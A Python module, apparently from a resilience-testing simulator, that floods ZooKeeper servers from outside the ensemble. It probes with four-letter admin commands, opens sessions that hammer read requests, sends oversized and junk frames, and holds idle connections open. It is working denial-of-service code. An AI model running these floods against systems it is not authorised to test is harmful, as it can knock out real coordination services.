"""Connections, sessions, questions and large requests at ZooKeeper by somebody who is no member."""

from __future__ import annotations

import asyncio
import struct
import time

from cluster import addresses
from simulator.attack.assaults.sockets import Connection, answer, connect, drop, in_parallel, write
from simulator.attack.tally import Tally, Victim

_AT_ONCE = 30
_WORDS = (b"srvr", b"ruok", b"stat", b"mntr", b"cons", b"wchp", b"dump", b"envi")
_SESSION_MILLISECONDS = 4000
_PAUSE_SECONDS = 0.5
"""Between 20 requests of a session and the next 20."""
_EXISTS, _GET_CHILDREN = 3, 8


def connect_request() -> bytes:
    """The first message of a session (``ConnectRequest`` of ZooKeeper's protocol)."""
    return _framed(struct.pack(">iqiqi16s?", 0, 0, _SESSION_MILLISECONDS, 0, 16, b"\0" * 16, False))


def read_request(number: int, path: str) -> bytes:
    """``getChildren`` or ``exists`` of a path."""
    kind = _GET_CHILDREN if number % 2 else _EXISTS
    name = path.encode()
    return _framed(struct.pack(">iii", number + 1, kind, len(name)) + name + b"\0")


def oversized_request() -> bytes:
    """The head of a message larger than ZooKeeper takes."""
    return struct.pack(">i", 2**30) + b"\0" * 4096


def _framed(content: bytes) -> bytes:
    return struct.pack(">i", len(content)) + content


async def zookeeper_flood(victim: Victim, *, words: int, sessions: int, seconds: float) -> Tally:
    """Four-letter words, then sessions that ask all the time, then junk; at every member of the ensemble."""
    tally = Tally()
    await in_parallel(lambda number: _word(victim, number, tally), words, _AT_ONCE)
    deadline = time.monotonic() + seconds
    await in_parallel(lambda number: _session(victim, number, deadline, tally), sessions, sessions)
    await in_parallel(lambda number: _junk(victim, number, tally), words // 10, _AT_ONCE)
    return tally


async def _at(victim: Victim, number: int, tally: Tally) -> Connection | None:
    host, port = addresses.split(victim.zookeeper[number % len(victim.zookeeper)])
    return await connect(host, port, tally)


async def _word(victim: Victim, number: int, tally: Tally) -> None:
    connection = await _at(victim, number, tally)
    if connection is not None:
        await write(connection, _WORDS[number % len(_WORDS)])
        tally.count("word answered" if await answer(connection, 5.0) else "word closed")
        drop(connection)


async def _session(victim: Victim, number: int, deadline: float, tally: Tally) -> None:
    connection = await _at(victim, number, tally)
    if connection is None:
        return
    await write(connection, connect_request())
    tally.count("session" if await answer(connection, 5.0) else "no session")
    request = 0
    while time.monotonic() < deadline and await write(connection, _requests(request, victim)):
        request += 20
        tally.sent += 20
        await answer(connection, 2.0)
        await asyncio.sleep(_PAUSE_SECONDS)
    drop(connection)


def _requests(first: int, victim: Victim) -> bytes:
    path = f"/pacing/{victim.cluster}"
    return b"".join(read_request(first + offset, path) for offset in range(20))


async def _junk(victim: Victim, number: int, tally: Tally) -> None:
    connection = await _at(victim, number, tally)
    if connection is not None:
        await write(connection, oversized_request() if number % 2 else b"\xff" * 64)
        came = await answer(connection, 1.0)
        tally.count("junk: nothing" if came is None else "junk: closed" if not came else "junk: answered")
        drop(connection)


async def hold_connections(victim: Victim, *, count: int, seconds: float) -> Tally:
    """Connections to ZooKeeper that say nothing."""
    tally = Tally()
    opened: list[Connection] = []

    async def one(number: int) -> None:
        connection = await _at(victim, number, tally)
        if connection is not None:
            tally.count("opened")
            opened.append(connection)

    await in_parallel(one, count, _AT_ONCE)
    await asyncio.sleep(seconds)
    for connection in opened:
        drop(connection)
    return tally
